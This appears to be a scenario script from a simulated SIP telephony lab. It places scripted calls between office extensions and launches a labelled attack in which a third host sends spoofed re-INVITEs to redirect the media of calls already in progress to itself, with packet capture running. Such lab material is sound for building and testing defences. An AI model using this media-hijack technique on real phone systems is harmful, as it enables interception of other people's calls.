# A computer inside moves the media of running calls to itself: it sends the called phones re-INVITEs
# in the callers' name, with its own address in the SDP. Media are not captured.
relocate example.org 5060 172.31.4 198.18.90
EXTENSIONS=(901 902 903 904 905 906 907)
EXISTING='^9[0-1][0-9]$'
WEAK=none
open_office
add_attacker third 172.31.4.200
start_office_capture
keep_alive 13
office_day 218 90 15-75
n=0
for pair in "901 904" "903 905" "906 902"; do
    read -r from to <<<"$pair"
    second=$((20 + 16 * n))
    at "$second" tell "$from" dial "sip:$to@$DOMAIN"
    at "$((second + 2))" tell "$to" accept
    at "$((second + 11))" tell "$from" hangup
    at "$((second + 12))" tell "$to" hangup
    n=$((n + 1))
done
at 19 attack A1 hijack:media_redirect third 5074 "A third host sends re-INVITEs with its own media address into running calls, to the called phones." \
    "a Python program of this directory" "$here/intrude" "$scratch/$recording.pcap" 172.31.4.1 INVITE callee 172.31.4.200:5074 3 60
within_calls_of_others A1
play
wait_for A1
close_office
expect_said A1 'SIP/2.0 200 OK' 'messages sent: 3'
